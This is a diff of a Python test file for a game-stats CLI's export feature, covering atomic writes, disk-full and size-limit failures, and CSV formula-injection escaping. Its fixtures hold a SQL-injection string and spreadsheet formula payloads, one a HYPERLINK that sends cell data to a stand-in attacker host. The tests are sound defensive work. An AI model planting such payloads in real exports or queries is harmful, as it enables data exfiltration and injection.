@@ -8,7 +8,9 @@ from __future__ import annotations
 import csv
 import errno
 import json
+import os
 import re
+import stat
 from pathlib import Path
 
 import polars as pl
@@ -32,13 +34,13 @@ EVIL = {
 CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what a terminal would obey
 
 
-def rename_players(src: Path, dst: Path) -> None:
+def rename_players(src: Path, dst: Path, names: dict[str, str] = EVIL) -> None:
     """Replace the name field (the second backslash field) of some player lines."""
     lines = src.read_bytes().split(b"\n")
     for i, line in enumerate(lines[1:], 1):
         parts = line.split(b"\\")
-        if len(parts) >= 5 and parts[0].decode() in EVIL:
-            parts[1] = EVIL[parts[0].decode()].encode("latin-1")
+        if len(parts) >= 5 and parts[0].decode() in names:
+            parts[1] = names[parts[0].decode()].encode("latin-1")
             lines[i] = b"\\".join(parts)
     dst.write_bytes(b"\n".join(lines))
 
@@ -283,8 +285,9 @@ def test_every_listed_detail_query_can_be_exported(evil: tuple[Path, Path], tmp_
     assert export("round_awards", "--param", f"round_id={r1['round_id']}") == []  # no endstats
     assert export("round_awards", "--param", "round_id=1") == []
     assert len(export("session_maps", "--param", f"session_id={rounds[0]['session_id']}")) == 1
-    # values are bound parameters, never SQL text
-    assert export("player_weapons", "--param", "guid=x' OR 1=1 --") == []
+    # values are bound parameters, never SQL text: no rows, so no player has that GUID
+    res = cli("--data-dir", data, "export", "player_weapons", "--param", "guid=x' OR 1=1 --")
+    assert res.exit_code == 2 and "no player in the lake has this GUID" in one_line(res.stderr)
     day = rounds[0]["session_date"]
     assert export("player_totals", "--param", f"date_from={day}", "--param", f"date_to={day}")
 
@@ -347,3 +350,224 @@ def test_json_output_keeps_the_stored_names(evil: tuple[Path, Path]) -> None:
     assert res.exit_code == 0 and json.loads(res.stdout)["name"] == "[/bold]evil"
     res = cli("--data-dir", data, "player", "5D989160", "--json")
     assert json.loads(res.stdout)["name"] == EVIL["5D989160"]
+
+
+# --------------------------------------------------------------------------- E: export files
+
+#: GUID → a name a spreadsheet would run as a formula
+FORMULAS = {
+    "0A26D447": '=HYPERLINK("http://e.vil/?"&A1,"x")',
+    "9CC78CFE": "@SUM(1+1)",
+    "A0B2063D": "+1+1",
+    "652EB4A6": "-2+3",
+}
+
+
+def no_temp_files(folder: Path) -> bool:
+    return not [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]
+
+
+def test_an_export_that_cannot_finish_keeps_the_previous_file(
+    evil: tuple[Path, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Written straight into --out, a full disk left the CSV cut mid-row (it still loaded,
+    fewer rows) and the old export gone: now a temp file beside it is renamed over it only
+    when whole, and removed on a failure or Ctrl-C; the fix is worded by the cause."""
+    from etl_duck.cli import run
+
+    data, _ = evil
+    old = tmp_path / "players.csv"
+    assert cli("--data-dir", data, "export", "player_totals", "--out", old).exit_code == 0
+    before = old.read_bytes()
+    real_fsync = os.fsync
+    raised: list[BaseException] = []
+
+    def disk_full(fd: int) -> None:  # the temp file's data is written; its sync fails
+        if os.readlink(f"/proc/self/fd/{fd}").startswith(str(tmp_path)):
+            raise raised[-1]
+        real_fsync(fd)
+
+    monkeypatch.setattr(os, "fsync", disk_full)
+    for fmt in ("csv", "parquet", "json"):
+        raised.append(OSError(errno.ENOSPC, "No space left on device"))
+        res = cli("--data-dir", data, "export", "player_totals", "--format", fmt, "--out", old)
+        line = one_line(res.stderr)
+        assert res.exit_code == 1 and f"cannot write {old}: no space left on the disk" in line
+        assert "free space or choose another --out" in line and "writable" not in line, line
+        assert old.read_bytes() == before and no_temp_files(tmp_path)
+    raised.append(KeyboardInterrupt())
+    assert run(["--data-dir", str(data), "export", "player_totals", "--out", str(old)]) == 130
+    assert old.read_bytes() == before and no_temp_files(tmp_path)
+    # a Polars error (no errno, no file name) is a write failure too, not "unexpected"
+    monkeypatch.setattr(os, "fsync", real_fsync)
+
+    def thrift(self: pl.DataFrame, file: object, **kwargs: object) -> None:
+        raise pl.exceptions.ComputeError("parquet: File out of specification: transport error")
+
+    monkeypatch.setattr(pl.DataFrame, "write_parquet", thrift)
+    res = cli("--data-dir", data, "export", "player_totals", "--format", "parquet", "--out", old)
+    line = one_line(res.stderr)
+    assert res.exit_code == 1 and f"cannot write {old}: parquet: File out" in line, line
+    assert old.read_bytes() == before and no_temp_files(tmp_path)
+
+
+def test_an_export_past_the_file_size_limit_keeps_the_previous_file(
+    evil: tuple[Path, Path], tmp_path: Path
+) -> None:
+    """A real failure, no root needed: RLIMIT_FSIZE (`ulimit -f`) stops the write mid-file
+    (CSV: OSError; Parquet: Polars' ComputeError, with no errno)."""
+    import subprocess
+    import sys
+
+    data, _ = evil
+    old = tmp_path / "players.csv"
+    assert cli("--data-dir", data, "export", "player_totals", "--out", old).exit_code == 0
+    before = old.read_bytes()
+    script = (
+        "import json, resource, sys\n"
+        "from etl_duck.cli import run\n"
+        "resource.setrlimit(resource.RLIMIT_FSIZE, (256, 256))\n"
+        "print(json.dumps([run(['--data-dir', sys.argv[1], 'export', 'player_totals', "
+        "'--format', f, '--out', sys.argv[2]]) for f in ('csv', 'parquet')]))\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", script, str(data), str(old)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        cwd=Path(__file__).resolve().parents[1],
+        stdin=subprocess.DEVNULL,
+    )
+    assert json.loads(done.stdout.splitlines()[-1]) == [1, 1], done.stderr
+    assert old.read_bytes() == before and no_temp_files(tmp_path)
+    lines = [line for line in done.stderr.splitlines() if line.strip()]
+    assert len(lines) == 2 and "Traceback" not in done.stderr, done.stderr
+    for line in lines:
+        assert f"cannot write {old}: the file is larger than" in line and "ulimit -f" in line
+
+
+def test_an_export_replaces_a_file_but_keeps_its_mode_and_writes_a_stream_as_one(
+    evil: tuple[Path, Path], tmp_path: Path
+) -> None:
+    data, _ = evil
+    out = tmp_path / "x.csv"
+    out.write_text("old")
+    out.chmod(0o640)
+    link = tmp_path / "link.csv"
+    link.symlink_to(out)
+    assert cli("--data-dir", data, "export", "player_totals", "--out", link).exit_code == 0
+    assert link.is_symlink() and rows(out) and (out.stat().st_mode & 0o777) == 0o640
+    assert no_temp_files(tmp_path)
+    fifo = tmp_path / "pipe"
+    os.mkfifo(fifo)
+    import threading
+
+    got: list[bytes] = []
+    reader = threading.Thread(target=lambda: got.append(fifo.read_bytes()))
+    reader.start()
+    res = cli("--data-dir", data, "export", "player_totals", "--out", fifo)
+    reader.join(60)
+    assert res.exit_code == 0 and got and got[0].startswith(b"guid,name,"), res.output
+    assert stat.S_ISFIFO(fifo.stat().st_mode)  # a stream is written into, not replaced
+
+
+def test_a_csv_export_of_list_columns_is_refused_with_the_formats_that_hold_them(
+    evil: tuple[Path, Path], tmp_path: Path
+) -> None:
+    data, _ = evil
+    out = tmp_path / "bests.csv"
+    res = cli("--data-dir", data, "export", "social_map_bests", "--out", out)
+    line = one_line(res.stderr)
+    assert res.exit_code == 2 and "social_map_bests has list columns (" in line, line
+    assert line.endswith("use --format parquet or json") and not out.exists()
+    got = tmp_path / "bests.parquet"
+    res = cli("--data-dir", data, "export", "social_map_bests", "--format", "parquet", "--out", got)
+    assert res.exit_code == 0, res.output
+    nested = [c for c, t in pl.read_parquet(got).schema.items() if t.is_nested()]
+    assert nested and all(c in line for c in nested)
+    res = cli("--data-dir", data, "export", "social_map_bests", "--format", "json", "--out", got)
+    assert res.exit_code == 0 and isinstance(json.loads(got.read_text())[0][nested[0]], list)
+
+
+def test_has_order_reads_only_the_statements_own_order_by() -> None:
+    from etl_duck.cli.analytics import has_order
+
+    assert has_order("SELECT a FROM t -- x\nORDER BY a")
+    assert not has_order("SELECT row_number() OVER (PARTITION BY a ORDER BY b) FROM t")
+    assert not has_order("SELECT * FROM (SELECT a FROM t ORDER BY a) -- ORDER BY a")
+    assert not has_order("SELECT 'ORDER BY' AS x FROM t")
+
+
+@pytest.fixture(scope="module")
+def formulas(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A data dir whose players have names a spreadsheet would run as formulas."""
+    from etl_duck.ingest.run import ingest_paths
+
+    files = tmp_path_factory.mktemp("formula-files")
+    for name in FILES:
+        rename_players(REAL / name, files / name, FORMULAS)
+    data = tmp_path_factory.mktemp("formulas") / "data"
+    ingest_paths(data, [files])
+    return data
+
+
+def test_names_that_read_as_formulas_are_text_in_a_csv_export_only(
+    formulas: Path, tmp_path: Path
+) -> None:
+    """OWASP's CSV injection advice: a text cell starting with = + - @ tab or CR gets a
+    leading ' in CSV; Parquet and JSON keep the name as stored."""
+    out = tmp_path / "x.csv"
+    assert cli("--data-dir", formulas, "export", "player_totals", "--out", out).exit_code == 0
+    names = {r["guid"]: r["name"] for r in rows(out)}
+    assert {names[g] for g in FORMULAS} == {"'" + n for n in FORMULAS.values()}
+    assert not [n for n in names.values() if n[:1] in "=+-@\t\r"]
+    assert names["D8423F90"] == "vid"  # other names untouched
+    for fmt in ("parquet", "json"):
+        got = tmp_path / f"x.{fmt}"
+        args = ("export", "player_totals", "--format", fmt, "--out", got)
+        assert cli("--data-dir", formulas, *args).exit_code == 0
+        stored = pl.read_parquet(got) if fmt == "parquet" else pl.read_json(got)
+        assert set(stored["name"]) >= set(FORMULAS.values())
+
+
+def test_csv_safe_quotes_only_text_cells_that_start_like_a_formula() -> None:
+    from etl_duck.cli.analytics import csv_safe
+
+    cells = pl.DataFrame({"s": ["\tx", "\rx", "a=b", None, "", "'x"], "n": [-1, 2, 3, 4, 5, 6]})
+    assert csv_safe(cells).to_dict(as_series=False) == {
+        "s": ["'\tx", "'\rx", "a=b", None, "", "'x"],
+        "n": [-1, 2, 3, 4, 5, 6],
+    }
+
+
+def test_an_unknown_guid_or_session_is_a_usage_error_and_ids_are_exact_in_json(
+    evil: tuple[Path, Path], tmp_path: Path
+) -> None:
+    data, _ = evil
+    out = tmp_path / "x.json"
+    for args, says in (
+        (["player_sessions_of", "--param", "guid=DEADBEEF"], "guid=DEADBEEF: no player"),
+        (["player_sessions_of", "--param", "guid=d8423f90"], "upper case: guid=D8423F90"),
+        (["session_rounds", "--param", "session_id=20200101000000"], "no session in the lake"),
+    ):
+        res = cli("--data-dir", data, "export", *args, "--out", out)
+        line = one_line(res.stderr)
+        assert res.exit_code == 2 and says in line, line
+        assert not out.exists()
+    # a known player with no rows in the window: 0 rows, not an error
+    window = ["--param", "date_from=2000-01-01", "--param", "date_to=2000-01-02"]
+    weapons: list[str | Path] = ["player_weapons", "--param", "guid=D8423F90", *window]
+    res = cli("--data-dir", data, "export", *weapons, "--out", out)
+    assert res.exit_code == 0 and "wrote 0 rows" in res.stdout, res.output
+    # round and match ids are 64-bit hashes: strings in JSON, exactly the CSV's digits
+    res = cli("--data-dir", data, "export", "session_rounds", "--format", "json", "--out", out)
+    assert res.exit_code == 0, res.output
+    got = json.loads(out.read_text())
+    as_csv = tmp_path / "x.csv"
+    assert cli("--data-dir", data, "export", "session_rounds", "--out", as_csv).exit_code == 0
+    for j, c in zip(got, rows(as_csv), strict=True):
+        assert isinstance(j["session_id"], int)
+        for key in ("round_id", "match_id"):
+            assert isinstance(j[key], str) and j[key] == c[key]
+        assert j["paired_round_id"] == (c["paired_round_id"] or None)
+    assert any(int(r["round_id"]) > 2**53 for r in got)
